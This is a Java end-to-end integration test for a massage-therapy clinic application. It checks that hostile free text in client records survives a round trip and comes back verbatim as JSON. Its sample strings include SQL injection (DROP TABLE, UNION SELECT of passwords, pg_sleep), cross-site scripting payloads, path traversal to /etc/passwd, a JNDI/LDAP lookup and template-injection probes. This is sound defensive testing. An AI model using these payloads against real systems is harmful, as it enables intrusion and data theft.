package org.triggerpoint.clinic.endtoend;

import com.fasterxml.jackson.databind.JsonNode;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.triggerpoint.clinic.endtoend.Http.Answer;

import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Across the two processes: free text made of hostile strings (SQL-looking, HTML and script, path traversal,
 * template and JNDI lookups, quotes, control characters, every script and emoji) is stored as written and read back
 * from the client's history exactly as written, in a JSON answer that no browser would take for a page.
 */
class HostileTextRoundTripIT {

    private static final String PASSWORD = "end-to-end-user-password-1";

    /** Where each hostile string goes, by the field that carries it. */
    private static final Map<String, String> HOSTILE = new LinkedHashMap<>();

    static {
        HOSTILE.put("familyName", "O'Brien\"); DROP TABLE events.domain_event_entry;--");
        HOSTILE.put("history", "<script>alert(document.cookie)</script> & <b>bold</b> &amp; &lt;");
        HOSTILE.put("goals", "../../../../etc/passwd ..\\..\\windows\\win.ini %2e%2e%2f");
        HOSTILE.put("painPattern", "1' OR '1'='1'; SELECT pg_sleep(10); --");
        HOSTILE.put("posture", "${jndi:ldap://example.org/x} #{7*7} {{7*7}} <%= 7*7 %>");
        HOSTILE.put("movementRestriction", "\"><img src=x onerror=alert(1)> `backticks` \\backslash\\");
        HOSTILE.put("referralPattern", "Zoë Ångström – naïve café, 東京, Łódź, عربى, עברית, 👩‍⚕️💆‍♂️🩺");
        HOSTILE.put("techniqueNotes", "line one\nline two\ttabbed\r\ncarriage \u202Eright-to-left\u202C \u200B");
        HOSTILE.put("completionNotes", "</textarea><iframe src=javascript:alert(1)> ]]> <!-- -->");
        HOSTILE.put("sorenessNotes", "UNION SELECT username, password FROM identity.user_account -- \\u0000");
        HOSTILE.put("amendedPainPattern", "'; UPDATE command.client_registry SET erased = true; -- \u0007bell");
    }

    private static RunningClinic clinic;
    private static final Http http = new Http();
    private static String therapist;
    private static String therapistId;

    @BeforeAll
    static void useTheSharedClinic() {
        clinic = SharedClinic.get();
        therapist = "tess-" + UUID.randomUUID().toString().substring(0, 6);
        assertThat(http.post(clinic.commandUrl() + "/api/users", "admin", RunningClinic.ADMIN_PASSWORD,
                Map.of("username", therapist, "password", PASSWORD, "roles", List.of("THERAPIST"))).status())
                .isEqualTo(201);
        therapistId = http.post(clinic.commandUrl() + "/api/therapists", "admin", RunningClinic.ADMIN_PASSWORD,
                Map.of("displayName", "Tess Okafor", "licenseNumber", "RMT-HOSTILE")).json().get("therapistId")
                .asText();
    }

    @Test
    void hostileFreeTextComesBackFromTheHistoryExactlyAsWritten() {
        String clientId = command("/api/clients", Map.of("givenName", "Avery", "familyName", HOSTILE.get("familyName"),
                "dateOfBirth", "1984-03-12", "consentToTreatment", true, "consentToDataProcessing", true))
                .json().get("clientId").asText();
        command("/api/clients/" + clientId + "/intake", Map.of("conditions", List.of("TENSION_HEADACHE_OR_MIGRAINE"),
                "history", HOSTILE.get("history"), "goals", HOSTILE.get("goals")));
        String sessionId = command("/api/sessions", Map.of("clientId", clientId, "therapistId", therapistId))
                .json().get("sessionId").asText();
        String session = "/api/sessions/" + sessionId;
        command(session + "/assessment", Map.of("painScore", 7, "painPattern", HOSTILE.get("painPattern"),
                "posture", HOSTILE.get("posture"), "movementRestrictions", List.of(HOSTILE.get("movementRestriction"))));
        String triggerPointId = command(session + "/trigger-points", Map.of("muscle", "UPPER_TRAPEZIUS", "side", "LEFT",
                "kind", "ACTIVE", "referralPattern", HOSTILE.get("referralPattern")))
                .json().get("triggerPointId").asText();
        command(session + "/trigger-points/" + triggerPointId + "/release", Map.of("pressure", "STATIC",
                "holdSeconds", 90, "tissueResponse", "RELEASED", "referredSensationReproduced", true));
        command(session + "/techniques", Map.of("technique", "MYOFASCIAL_STRETCHING",
                "notes", HOSTILE.get("techniqueNotes")));
        command(session + "/complete", Map.of("postSessionPainScore", 3, "notes", HOSTILE.get("completionNotes")));
        command(session + "/soreness", Map.of("hoursAfterSession", 24, "severity", 2, "resolved", true,
                "notes", HOSTILE.get("sorenessNotes")));
        Answer last = command(session + "/amendments", Map.of("reason", "Transcription error",
                "painPattern", HOSTILE.get("amendedPainPattern")));

        Answer history = http.get(clinic.queryUrl() + "/api/clients/" + clientId + "/history", therapist, PASSWORD,
                last.header("X-Consistency-Token"));

        assertThat(history.status()).as(history.body()).isEqualTo(200);
        assertThat(history.header("Content-Type")).startsWith("application/json");
        assertThat(history.header("X-Content-Type-Options")).isEqualTo("nosniff");
        List<String> texts = new ArrayList<>();
        collectTexts(history.json(), texts);
        HOSTILE.forEach((field, hostile) -> assertThat(texts).as("%s in %s", field, history.body()).contains(hostile));
        // Markup is carried as JSON text, never as markup: no raw '<' of the strings escaped into entities either.
        assertThat(history.body()).doesNotContain("&lt;script");
    }

    private static void collectTexts(JsonNode node, List<String> texts) {
        if (node.isTextual()) {
            texts.add(node.asText());
        }
        node.forEach(child -> collectTexts(child, texts));
    }

    private Answer command(String path, Object body) {
        Answer answer = http.post(clinic.commandUrl() + path, therapist, PASSWORD, body);
        assertThat(answer.status()).as(path + " → " + answer.body()).isIn(201, 204);
        assertThat(answer.header("X-Consistency-Token")).isNotBlank();
        return answer;
    }
}
